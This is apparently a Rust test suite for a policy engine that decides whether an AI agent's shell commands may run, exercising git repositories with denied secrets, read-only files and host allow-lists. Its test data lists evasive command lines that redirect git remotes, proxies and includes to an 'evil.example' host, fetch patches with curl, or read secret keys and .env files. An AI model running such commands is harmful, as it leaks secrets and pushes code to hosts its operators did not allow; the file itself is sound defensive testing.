//! What git's whole trees add to a decision, in repositories that git itself has made: loose objects and packs, every version of
//! the index, remotes and aliases.

#![expect(clippy::unwrap_used, reason = "a step that fails fails the test")]

use std::fs;
use std::io::{Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};
use std::process::Command;

use proptest::prelude::*;
use tempfile::TempDir;
use writ_core::json::{Object, Value};
use writ_core::{Timestamp, ToolCall, Verdict};
use writ_policy::{Entry, Policy, Protected, Resolved, Setting, World, decide, survey};

/// The disk, symlinks followed by the system.
struct Disk;

impl World for Disk {
    fn resolve(&self, path: &str) -> Resolved {
        let real = fs::canonicalize(path).unwrap_or_else(|_| PathBuf::from(path));
        Resolved { is_dir: real.is_dir(), path: real.to_string_lossy().into_owned() }
    }

    fn list(&self, dir: &str) -> Option<Vec<Entry>> {
        let entry = |entry: fs::DirEntry| Entry {
            name: entry.file_name().to_string_lossy().into_owned(),
            is_dir: entry.path().is_dir(),
            is_link: entry.path().is_symlink(),
        };
        Some(fs::read_dir(dir).ok()?.flatten().map(entry).collect())
    }

    fn read(&self, path: &str, from: u64, most: usize) -> Option<Vec<u8>> {
        let mut file = fs::File::open(path).ok()?;
        file.seek(SeekFrom::Start(from)).ok()?;
        let mut bytes = Vec::new();
        file.take(most as u64).read_to_end(&mut bytes).ok()?;
        Some(bytes)
    }
}

struct Repo {
    dir: TempDir,
}

impl Repo {
    /// Two commits: the first without the policy and without the key, the second with them; a branch that knows neither.
    fn new() -> Self {
        let repo = Self { dir: tempfile::tempdir().unwrap() };
        repo.git(&["init", "-q", "-b", "main"]);
        repo.write("src/a.txt", "plain\n");
        repo.write("Cargo.lock", "one\n");
        repo.commit("one");
        repo.git(&["branch", "old"]);
        repo.write("secrets/key", "secret\n");
        repo.write(".aflock", "{}\n");
        repo.commit("two");
        repo.write("src/a.txt", "more\n");
        repo.commit("three");
        repo
    }

    fn root(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn git(&self, words: &[&str]) -> String {
        let home = self.root();
        let out = Command::new("git")
            .args(["-c", "user.name=a", "-c", "user.email=a@b.c"])
            .args(words)
            .current_dir(&home)
            .env("HOME", &home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {words:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.root().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn commit(&self, name: &str) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-qm", name]);
    }

    fn asked(&self, policy: &str, line: &str) -> (Policy, ToolCall, Setting) {
        let root = self.root().to_string_lossy().into_owned();
        let policy = Policy::parse(policy.as_bytes(), &root).unwrap();
        let mut input = Object::new();
        input.push("command", Value::from(line));
        let call = ToolCall::new("Bash", Value::from(input), root.clone());
        let protected = Protected { path: format!("{root}/.aflock"), what: "the policy".to_owned(), secret: false };
        (policy, call, Setting { now: Timestamp::from_millis(0), home: Some(root), protected: vec![protected] })
    }

    fn decided(&self, policy: &str, line: &str) -> Verdict {
        let (policy, call, setting) = self.asked(policy, line);
        decide(&policy, &call, &setting, &Disk).verdict
    }

    /// Where the remotes that a line contacts by name lead.
    fn remotes(&self, line: &str) -> Vec<String> {
        let (policy, call, setting) = self.asked(PLAIN, line);
        let facts = survey(&policy, &call, &setting, &Disk);
        facts.remotes().filter(|(name, _)| name.starts_with("remote ")).map(|(_, urls)| urls.to_owned()).collect()
    }

    fn check(&self, policy: &str, stopped: &[&str], passed: &[&str]) {
        for line in stopped {
            assert!(self.decided(policy, line) > Verdict::Allow, "passes: {line}");
        }
        for line in passed {
            assert_eq!(self.decided(policy, line), Verdict::Allow, "{line}");
        }
    }
}

const PLAIN: &str = r#"{"version":"1.0","name":"p"}"#;
const KEYS: &str = r#"{"version":"1.0","name":"p","files":{"deny":["secrets/**"]}}"#;
const LOCK: &str = r#"{"version":"1.0","name":"p","files":{"readOnly":["Cargo.lock"]}}"#;
const HOSTS: &str = r#"{"version":"1.0","name":"p","domains":{"allow":["good.example"],"deny":["*"]}}"#;

const MOVES: [&str; 21] = [
    "git bisect start HEAD HEAD~2",
    "git checkout HEAD~2",
    "git checkout old",
    "git switch -q old",
    "git checkout -B x HEAD~2",
    "git reset --hard HEAD~2",
    "git reset --hard old",
    "git restore -s old .",
    "git restore -s HEAD~2 -- ':(glob)**'",
    "git checkout old -- .",
    "git read-tree -u --reset HEAD~2",
    "git rebase --onto old HEAD~1",
    "git revert --no-edit HEAD~1",
    "git sparse-checkout set src",
    "git rm -q ':(icase).AFLOCK'",
    "git rm -rf .",
    "git pull",
    "git filter-branch --tree-filter true",
    "git update-ref HEAD old; git reset --hard",
    "git switch --orphan x",
    "git checkout $COMMIT",
];
const HARMLESS_MOVES: [&str; 19] = [
    "git bisect start",
    "git checkout -b x",
    "git switch -c x",
    "git checkout main",
    "git checkout HEAD~1",
    "git checkout HEAD~1 -- src",
    "git checkout -- src/a.txt",
    "git restore src/a.txt",
    "git restore --staged .",
    "git restore .",
    "git reset --hard",
    "git reset --hard HEAD~1",
    "git reset --soft HEAD~2",
    "git stash",
    "git merge old",
    "git rebase HEAD~1",
    "git revert --no-edit HEAD",
    "git rm -r src",
    "git commit -am x && git checkout main",
];
const READS: [&str; 22] = [
    "git show HEAD~1",
    "git show HEAD~1 -- secrets",
    "git show :0:secrets/key",
    "git show ':/two'",
    "git log -p",
    "git log -p --all -- ':!src'",
    "git log -L1,1:secrets/key",
    "git diff HEAD~2 HEAD",
    "git diff old...main",
    "git diff 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD",
    "git grep secret",
    "git grep secret HEAD",
    "git grep --no-index secret",
    "git archive HEAD | tar x",
    "git format-patch --root HEAD --stdout",
    "git fast-export HEAD",
    "git bundle create src/b HEAD",
    "git worktree add ../w HEAD",
    "git cat-file --batch <<< HEAD:secrets/key",
    "git cat-file -p $(git rev-parse HEAD:secrets/key)",
    "git checkout-index --prefix=src/o/ -a",
    "cd src && git show HEAD~1",
];
const HARMLESS_READS: [&str; 20] = [
    "git show",
    "git show HEAD",
    "git show HEAD~1 --stat",
    "git show HEAD:src/a.txt",
    "git show HEAD~1 -- src",
    "git show old",
    "git log --oneline",
    "git log --stat",
    "git log -p -1",
    "git log -p old",
    "git log -p HEAD~1..HEAD",
    "git log -p -- src",
    "git diff",
    "git diff --stat",
    "git diff HEAD~1",
    "git diff HEAD~1 HEAD",
    "git grep plain -- src",
    "git archive HEAD src",
    "git cat-file -p HEAD",
    "git status",
];

#[test]
fn whole_trees_are_judged_for_what_they_change() {
    let repo = Repo::new();
    repo.check(PLAIN, &MOVES, &HARMLESS_MOVES);
    // The same from a pack, and with the index in its other versions.
    repo.git(&["gc", "-q", "--aggressive", "--prune=now"]);
    for version in ["2", "3", "4"] {
        repo.git(&["update-index", "--index-version", version]);
        repo.check(PLAIN, &MOVES, &HARMLESS_MOVES);
    }
}

#[test]
fn what_commits_show_is_judged_by_their_changes() {
    let repo = Repo::new();
    repo.check(KEYS, &READS, &HARMLESS_READS);
    repo.git(&["gc", "-q", "--aggressive", "--prune=now"]);
    repo.check(KEYS, &READS, &HARMLESS_READS);
}

#[test]
fn what_nothing_ruled_is_tracked_in_is_free() {
    let repo = Repo { dir: tempfile::tempdir().unwrap() };
    repo.git(&["init", "-q", "-b", "main"]);
    repo.write(".gitignore", "secrets\n");
    repo.write("src/a.txt", "a\n");
    repo.commit("one");
    repo.write("secrets/key", "secret\n");
    repo.write("src/a.txt", "b\n");
    repo.commit("two");
    let free = [
        "git show HEAD~1",
        "git log -p",
        "git grep x",
        "git archive HEAD",
        "git stash",
        "git pull",
        "git worktree add ../w",
    ];
    repo.check(KEYS, &["git clean -fdx", "git clean -xf secrets"], &free);
    repo.check(KEYS, &[], &["git clean -fd", "git clean -n", "git clean -fdx src"]);
}

#[test]
fn local_changes_of_ruled_files_are_seen() {
    let repo = Repo::new();
    repo.check(LOCK, &[], &["git checkout -- .", "git stash", "git reset --hard"]);
    repo.write("Cargo.lock", "two\n");
    repo.check(
        LOCK,
        &["git checkout -- .", "git restore Cargo.lock", "git stash", "git reset --hard"],
        &["git checkout main"],
    );
    repo.check(LOCK, &[], &["git restore src", "git stash push -- src", "git stash list"]);
    let key = r#"{"version":"1.0","name":"p","files":{"deny":["secrets/**"]}}"#;
    repo.write("secrets/key", "other\n");
    repo.check(key, &["git diff", "git diff HEAD", "git stash"], &["git diff -- src", "git diff --stat"]);
    // What prints the same beside what it does.
    let printed = [
        "git status -vv",
        "git status -sv",
        "git status --verb",
        "git add -p",
        "git stage -i",
        "git add --e",
        "git commit -a --dry-run -v",
        "git commit -pm x",
        "git commit -qv -m x",
        "git checkout -p",
        "git reset -qp",
        "git reset --patch HEAD",
    ];
    let plain = ["git status -sb", "git status -v -- src", "git add -p src", "git commit -qmpv", "git reset"];
    repo.check(key, &printed, &plain);
}

#[test]
fn patches_are_judged_by_the_files_they_name() {
    let repo = Repo::new();
    repo.write("good.patch", "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-a\n+b\n");
    repo.write(
        "bad.patch",
        "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n@@ -1 +1 @@\n-a\n+b\n",
    );
    let stopped = ["git apply bad.patch", "git am bad.patch", "patch -p1 < bad.patch", "patch -p1 -i bad.patch"];
    repo.check(LOCK, &stopped, &["git apply good.patch", "patch -p1 < good.patch", "git apply --check bad.patch"]);
    repo.check(PLAIN, &["git diff HEAD old | git apply", "git apply none.patch"], &["git apply good.patch"]);
}

#[test]
fn a_patch_that_the_line_may_change_is_not_known() {
    let repo = Repo::new();
    repo.write("good.patch", "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-a\n+b\n");
    let bad =
        "printf -- '--- a/Cargo.lock\\n+++ b/Cargo.lock\\n@@ -1 +1 @@\\n-a\\n+b\\n' > good.patch; git apply good.patch";
    let good = "printf -- '--- a/src/a.txt\\n+++ b/src/a.txt\\n@@ -1 +1 @@\\n-a\\n+b\\n' > x.patch; git apply x.patch";
    let stopped = [
        "sed -i 's|src/a.txt|Cargo.lock|' good.patch && git apply good.patch",
        "cp /tmp/x.patch good.patch; git apply good.patch",
        "ln -sf /tmp/x.patch good.patch; patch -p1 < good.patch",
        "curl -o good.patch https://x.example/p && git apply good.patch",
        "./gen && git apply good.patch",
        "sleep 9; git apply good.patch",
        "git apply good*.patch",
        bad,
    ];
    let passed = [
        "git apply --check good.patch && git apply good.patch",
        "patch -p1 --dry-run < good.patch && patch -p1 < good.patch",
        "cat good.patch | head; git status --short; git apply good.patch",
        good,
    ];
    repo.check(LOCK, &stopped, &passed);
}

#[test]
fn lists_of_names_are_read_where_nothing_changes_them() {
    let repo = Repo::new();
    repo.write("list.txt", "src/a.txt\n");
    repo.write("bad.txt", "src/a.txt\nsecrets/key\n");
    repo.write("odd.txt", "src/a.txt\nno such file\n");
    let key = r#"{"version":"1.0","name":"p","files":{"deny":["secrets/**"]}}"#;
    repo.write("secrets/key", "k\n");
    let stopped = [
        "xargs -a bad.txt cat",
        "cat bad.txt | xargs wc -l",
        "while read -r f; do wc -l \"$f\"; done < bad.txt",
        "xargs -a odd.txt cat",
        "xargs -a none.txt cat",
        "echo secrets/key > list.txt; xargs -a list.txt cat",
        "./gen; xargs -a list.txt cat",
        "sleep 5; cat $(cat list.txt)",
        "while read -r f; do cat $f; echo secrets/key >> list.txt; done < list.txt",
        "while read -r f; do ./x $f; done < list.txt",
        "ln -sf bad.txt list.txt && cat list.txt | xargs cat",
        "cat() { echo secrets/key; }; head $(cat list.txt)",
    ];
    let passed = [
        "xargs -a list.txt wc -l",
        "cat list.txt | xargs wc -l",
        "cat list.txt | xargs -n1 basename",
        "while read -r f; do wc -l \"$f\"; done < list.txt",
        "head -3 $(cat list.txt)",
    ];
    repo.check(key, &stopped, &passed);
}

#[test]
fn what_packages_bring_is_removed_with_them() {
    let repo = Repo::new();
    let rules =
        r#"{"version":"1.0","name":"p","files":{"deny":["**/.env","**/*.pem"],"readOnly":["vendor/node_modules/**"]}}"#;
    for path in [".env", "node_modules/x/.env", ".venv/lib/c.pem", "lib/a/.env", "vendor/node_modules/y/index.js"] {
        repo.write(path, "x\n");
    }
    let stopped = [
        "rm -rf .",
        "rm -rf lib",
        "rm -rf node_modules .env",
        "rm -rf node_modules/../.env",
        "rm node_modules/x/.env",
        "cat node_modules/x/.env",
        "grep -r x node_modules",
        "cp -r node_modules /tmp/n",
        "mv node_modules/x /tmp/n",
        "rm -rf vendor/node_modules",
        "rm -rf node_modules && cp .env node_modules",
    ];
    let passed = [
        "rm -rf node_modules",
        "rm -rf node_modules package-lock.json && npm install",
        "rm -rf .venv",
        "rm -rf ./node_modules/x",
    ];
    repo.check(rules, &stopped, &passed);
}

#[test]
fn pathspecs_narrow_what_an_unknown_revision_shows() {
    let repo = Repo::new();
    let key = r#"{"version":"1.0","name":"p","files":{"deny":["secrets/**"]}}"#;
    repo.write("secrets/key", "k\n");
    repo.commit("key");
    let stopped = [
        "git diff \"$B\"",
        "git diff \"$B\" -- secrets",
        "git diff \"$B\" -- .",
        "git show \"$B\" -- \"$C\"",
        "git checkout \"$B\"",
    ];
    repo.check(key, &stopped, &["git diff \"$B\" -- src", "git diff \"$(git merge-base x HEAD)\" -- '*.txt'"]);
}

#[test]
fn remotes_are_read_from_the_settings() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    repo.git(&["config", "remote.evil.url", "git@evil.example:x/y"]);
    let good = ["git fetch", "git fetch origin", "git push origin main", "git push", "git status", "git remote -v"];
    repo.check(
        HOSTS,
        &["git fetch evil", "git push evil main", "git fetch none", "git fetch $R", "git pull evil main"],
        &good,
    );
    repo.git(&["config", "url.https://evil.example/.insteadOf", "https://good.example/"]);
    repo.check(HOSTS, &["git fetch", "git push origin"], &["git log"]);
    repo.git(&["config", "--unset", "url.https://evil.example/.insteadOf"]);
    repo.git(&["config", "branch.main.remote", "evil"]);
    repo.check(HOSTS, &["git pull", "git fetch"], &["git fetch origin"]);
    repo.write(".git/remotes/old", "URL: https://evil.example/x\n");
    repo.check(HOSTS, &["git fetch old"], &[]);
}

/// A remote is contacted by whatever names it, and as the line itself has left its settings.
#[test]
fn remotes_are_what_the_line_makes_of_them() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    let everyday = [
        "git checkout -b x && git push -u origin x",
        "git checkout -b x && git push -u origin HEAD",
        "git checkout -b x && git push",
        "git switch main && git fetch",
        "git checkout main; git push",
        "git config user.name x && git commit -m x && git push",
        "git config --global user.email x@y && git push",
        "git config pull.rebase true; git config branch.main.rebase true; git fetch",
        "git fetch --all",
        "git remote update",
        "git remote -v update",
        "git remote add up https://good.example/y && git fetch up",
        "git remote set-url origin https://good.example/y && git push",
        "git remote rename origin up && git push up main",
        "git branch -u origin/main && git fetch",
        "git push --all",
        "for b in a b; do git checkout -b $b && git push -u origin $b; done",
        "git clone https://good.example/a/b && cd b && git fetch",
        "git clone https://good.example/a/b.git && cd b && git push origin main && git submodule status",
        "git clone https://good.example/a/b there && git -C there push",
        "git worktree add ../w -b w main && cd ../w && git push origin w",
        "mkdir -p n && cd n && git init -q && git remote add origin https://good.example/n && git push -u origin main",
        "rm .git/index.lock; git fetch",
        "cp -r src out && git push",
    ];
    repo.check(HOSTS, &[], &everyday);
    repo.git(&["config", "remote.evil.url", "https://evil.example/x"]);
    repo.git(&["config", "branch.other.remote", "evil"]);
    repo.git(&["branch", "other"]);
    repo.git(&["config", "alias.up", "push"]);
    let named = [
        "git push --repo=evil",
        "git push --repo evil",
        "git push --rep=evil",
        "git push --repo=$R",
        "git -C src push --repo=evil",
        "git -c remote.pushDefault=evil push",
        "git config remote.pushDefault evil && git push",
        "git config branch.main.remote evil && git push",
        "git config set branch.main.pushRemote evil; git push",
        "git branch --set-upstream-to=evil/main && git push",
        "git branch -u evil/main && git push",
        "git branch n evil/main && git checkout n && git pull",
        "git checkout -b n evil/main && git push",
        "git remote rename origin a; git remote rename evil origin; git push",
        "git config --rename-section remote.evil remote.origin && git push",
        "git config --unset remote.origin.url && git push",
        "git config --edit; git push",
        "git $X set-url origin https://a.b/x; git push",
        "git --git-dir .git \"$X\" && git push origin main",
        "git remote remove origin && git push",
        "git checkout other && git push",
        "git switch other; git push",
        "git switch other && git fetch",
        "git checkout $B && git push",
        "git checkout - && git push",
        "git symbolic-ref HEAD refs/heads/other && git push",
        "git fetch --all",
        "git fetch --multiple origin evil",
        "git remote update",
        "git remote -v update",
        "git archive --remote=evil HEAD",
        "git archive --remote evil HEAD",
        "git lfs push evil main",
        "git lfs push https://evil.example/x main",
        "for i in 1 2; do git push; git config branch.main.remote evil; done",
        "git config alias.p push; git config branch.main.remote evil; git p",
        "git config branch.main.remote evil; git up",
        "git push; git config branch.main.remote evil; git push",
    ];
    repo.check(
        HOSTS,
        &named,
        &["git push", "git up", "git fetch origin", "git switch main && git push", "git push && git checkout other"],
    );
}

/// Where a repository, or a file of its settings, is not known, neither is where it goes.
#[test]
fn repositories_that_are_not_known_go_anywhere() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    let stopped = [
        "cd \"$X\" && git push",
        "git -C $X push",
        "git -C \"$(cat f)\" push origin",
        "git -C /nowhere push origin main",
        "git --git-dir=../other/.git push",
        "cp -r . /tmp/writ-none && cd /tmp/writ-none && git push",
        "git clone https://good.example/a/b && cd b && git push other",
        "git clone https://good.example/a/b && perl -pi -e s/good/evil/ b/.git/config && cd b && git push",
        "git clone https://good.example/a/b && cd b && git submodule update --init",
        "perl -pi -e 's/good/evil/' .git/config && git push",
        "awk -i inplace '{print}' .git/config; git push",
        "ed .git/config <<< w; git push",
        "ex -sc wq .git/config; git push",
        "vim -es -c wq .git/config; git push",
        "patch .git/config p; git push",
        "tar xf c.tar -C .git; git push",
        "unzip c.zip -d .git; git push",
        "rsync -a e/ .git/; git push",
        "cp -r e/. .git/; git push",
        "mv .git g; mv e .git; git push",
        "mv e sub && cd sub && git push",
        "git config alias.p push; perl -pi -e s/a/b/ .git/config; git p",
        "perl -pi -e s/a/b/ ~/.gitconfig; git push",
    ];
    let passed = [
        "git push; perl -pi -e s/a/b/ .git/config",
        "cd src && git push",
        "perl -pi -e s/a/b/ src/a.txt && git push",
        "git -C . push",
        "git -C $X status",
        "git -C $X push https://good.example/x",
        "mkdir -p sub && cd sub && git push",
    ];
    repo.check(HOSTS, &stopped, &passed);
}

/// The user's settings, those of a work tree and what they include are the repository's too.
#[test]
fn settings_are_read_wherever_git_reads_them() {
    let far = [
        (".gitconfig", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
        (".gitconfig", "[remote \"origin\"] url = evil.example:x\n"),
        (".config/git/config", "[remote]\n\tpushDefault = https://evil.example/x\n"),
        (".gitconfig", "[branch \"main\"]\n\tpushRemote = https://evil.example/x\n"),
        (".gitconfig", "[include]\n\tpath = there/more\n"),
        (".gitconfig", "[includeIf \"gitdir:/\"]\n\tpath = ~/there/more\n"),
        (".gitconfig", "[include]\n\tpath = ~other/more\n"),
        (".git/config.worktree", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
    ];
    for (file, text) in far {
        let repo = Repo::new();
        repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
        repo.write("there/more", "[url \"https://evil.example/\"]\n\tinsteadOf = https://good.example/\n");
        repo.check(HOSTS, &[], &["git push", "git push origin"]);
        repo.write(file, text);
        repo.check(HOSTS, &["git push"], &["git log"]);
    }
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    repo.git(&["config", "include.path", "s/i"]);
    repo.write(".git/s/i", "[include]\n\tpath = j\n");
    repo.check(HOSTS, &[], &["git push"]);
    repo.write(".git/s/j", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n");
    repo.check(HOSTS, &["git push"], &[]);
    let many: String = (0..20).map(|at| format!("[include]\n\tpath = none{at}\n")).collect();
    repo.write(".git/s/i", &many);
    repo.check(HOSTS, &["git push"], &[]);
    // Another remote for pushes leaves the usual one for what is fetched.
    repo.write(".git/s/i", "");
    repo.git(&["config", "remote.origin.url", "https://evil.example/x"]);
    repo.git(&["config", "remote.good.url", "https://good.example/x"]);
    repo.git(&["config", "branch.main.pushRemote", "good"]);
    repo.check(HOSTS, &["git fetch", "git pull"], &["git push good"]);
}

/// Proxies are contacted too, and what runs a program in between goes anywhere.
#[test]
fn what_lies_on_the_way_is_contacted() {
    for (name, value, passes) in [
        ("http.proxy", "http://evil.example:3128", false),
        ("http.proxy", "evil.example:3128", false),
        ("http.proxy", "http://good.example:3128", true),
        ("http.https://good.example/.proxy", "evil.example", false),
        ("remote.origin.proxy", "evil.example:1", false),
        ("remote.origin.vcs", "x", false),
        ("fetch.bundleURI", "https://evil.example/b", false),
        ("lfs.url", "https://evil.example/lfs", false),
        ("core.gitProxy", "x", false),
        ("core.sshCommand", "x", false),
        ("core.sshCommand", "ssh -o ProxyCommand=x", false),
        ("core.sshCommand", "ssh -J evil.example", false),
        ("core.sshCommand", "ssh -i ~/.ssh/work -o IdentitiesOnly=yes", true),
        ("http.curloptResolve", "good.example:443:1.2.3.4", false),
        ("http.postBuffer", "1000", true),
    ] {
        let repo = Repo::new();
        repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
        repo.git(&["config", name, value]);
        let line = ["git push"];
        repo.check(HOSTS, if passes { &[] } else { &line }, if passes { &line } else { &[] });
    }
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    let set = [
        "git -c fetch.bundleURI=https://evil.example/b fetch",
        "git -c http.curloptResolve=x fetch",
        "git -c core.gitProxy=x fetch",
    ];
    repo.check(HOSTS, &set, &["git -c http.postBuffer=1 fetch"]);
}

/// What is spelled out is rewritten as a name's URL is; what a file says that the settings include counts as theirs.
#[test]
fn addresses_are_what_settings_make_of_them() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    let far = ["git push evil:x main", "git fetch evil:x", "git pull u@evil:x main", "git clone evil:x"];
    repo.check(HOSTS, &far, &["git push good.example:x main", "git push ../other main", "git clone ../other there"]);
    let set = ["git remote set-url origin evil:x", "git remote add e evil:x", "git submodule add evil:x there"];
    repo.check(HOSTS, &set, &["git remote set-url origin good.example:x", "git remote rename origin other"]);
    repo.git(&["config", "url.https://good.example/.insteadOf", "own:"]);
    repo.check(HOSTS, &["git push other:x"], &["git push own:x", "git clone own:x"]);
    repo.git(&["config", "url.https://evil.example/.pushInsteadOf", "https://good.example/"]);
    repo.check(HOSTS, &["git push", "git push https://good.example/y"], &["git log"]);
    repo.git(&["config", "--unset", "url.https://evil.example/.pushInsteadOf"]);
    repo.check(HOSTS, &[], &["git push", "git push https://good.example/y"]);
    repo.write(".git/more", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n");
    repo.git(&["config", "include.path", "more"]);
    repo.check(HOSTS, &["git push"], &["git status"]);
}

/// Whoever approves a push approves where it goes, whether a rule is about hosts or not.
#[test]
fn what_is_approved_says_where_remotes_lead() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    assert_eq!(repo.remotes("git push"), ["https://good.example/x"]);
    assert_eq!(repo.remotes("git push origin main"), ["https://good.example/x"]);
    assert_eq!(repo.remotes("git status; git log"), [] as [&str; 0]);
    repo.git(&["remote", "set-url", "origin", "https://good.example/other"]);
    assert_eq!(repo.remotes("git push"), ["https://good.example/other"]);
    repo.git(&["remote", "set-url", "--push", "origin", "https://evil.example/x"]);
    assert_eq!(repo.remotes("git push"), ["https://good.example/other\nhttps://evil.example/x"]);
}

/// Whatever else git reads of where it goes is approved with it: files of settings, and the branch.
#[test]
fn what_is_approved_holds_for_these_settings() {
    let repo = Repo::new();
    let leads = || {
        let (policy, call, setting) = repo.asked(PLAIN, "git push");
        let facts = survey(&policy, &call, &setting, &Disk);
        facts.remotes().map(|(name, leads)| (name.to_owned(), leads.to_owned())).collect::<Vec<_>>()
    };
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    repo.git(&["config", "include.path", "more"]);
    let mut known = vec![leads()];
    assert_eq!(known, [leads()]);
    let mut anew = |what: &str| {
        let now = leads();
        assert!(!known.contains(&now), "{what}");
        known.push(now);
    };
    repo.git(&["config", "core.sshCommand", "ssh -v"]);
    anew("the repository's settings");
    repo.write(".gitconfig", "[http]\n\tproxy = http://evil.example\n");
    anew("the user's");
    repo.write(".config/git/config", "[push]\n\trecurseSubmodules = on-demand\n");
    anew("the user's others");
    repo.write(".git/config.worktree", "[core]\n\thooksPath = x\n");
    anew("those of a work tree");
    repo.write(".git/more", "[remote \"origin\"]\n\tmirror = true\n");
    anew("what is included");
    repo.write(".git/modules/a/HEAD", "ref: refs/heads/main\n");
    repo.write(".git/modules/a/config", "[remote \"origin\"]\n\turl = https://evil.example/x\n");
    anew("those of a submodule");
    repo.git(&["symbolic-ref", "HEAD", "refs/heads/old"]);
    anew("the branch");
}

#[test]
fn submodules_go_where_their_settings_say() {
    let repo = Repo::new();
    repo.git(&["config", "remote.origin.url", "https://good.example/x"]);
    let update = ["git submodule update --remote", "git submodule update --init", "git fetch --recurse-submodules"];
    repo.write(".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://good.example/a\n");
    repo.check(HOSTS, &[], &update);
    repo.write(".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://evil.example/a\n");
    repo.check(HOSTS, &update, &["git submodule status", "git fetch", "git push --recurse-submodules=check"]);
}

#[test]
fn aliases_are_followed() {
    let repo = Repo::new();
    repo.git(&["config", "alias.co", "checkout"]);
    repo.git(&["config", "alias.s", "show --format="]);
    repo.git(&["config", "alias.run", "!git reset --hard"]);
    repo.check(PLAIN, &["git co old", "git run HEAD~2"], &["git co -b x", "git co main", "git run", "git nothing"]);
    repo.check(KEYS, &["git s HEAD~1", "git config alias.t show; git t HEAD~1"], &["git s HEAD"]);
}

/// Changes one byte of a file.
fn damage(file: &Path, at: usize, byte: u8) {
    let mut bytes = fs::read(file).unwrap();
    let at = at % bytes.len();
    *bytes.get_mut(at).unwrap() = byte;
    fs::remove_file(file).unwrap();
    fs::write(file, bytes).unwrap();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Whatever an index or a pack holds, it is read to an end.
    #[test]
    fn damage_is_survived(at in 0usize..100_000, byte in any::<u8>(), pack in any::<bool>()) {
        let repo = Repo::new();
        if pack {
            repo.git(&["gc", "-q", "--prune=now"]);
            for entry in fs::read_dir(repo.root().join(".git/objects/pack")).unwrap().flatten() {
                damage(&entry.path(), at, byte);
            }
        } else {
            damage(&repo.root().join(".git/index"), at, byte);
        }
        for line in ["git show HEAD~1", "git checkout old", "git log -p", "git stash"] {
            repo.decided(KEYS, line);
        }
    }

    /// A cut index is not an empty one.
    #[test]
    fn a_cut_index_asks(cut in 13usize..200) {
        let repo = Repo::new();
        let file = repo.root().join(".git/index");
        let bytes = fs::read(&file).unwrap();
        fs::write(&file, bytes.get(..cut.min(bytes.len() / 2)).unwrap()).unwrap();
        prop_assert!(repo.decided(KEYS, "git grep secret") > Verdict::Allow);
    }
}
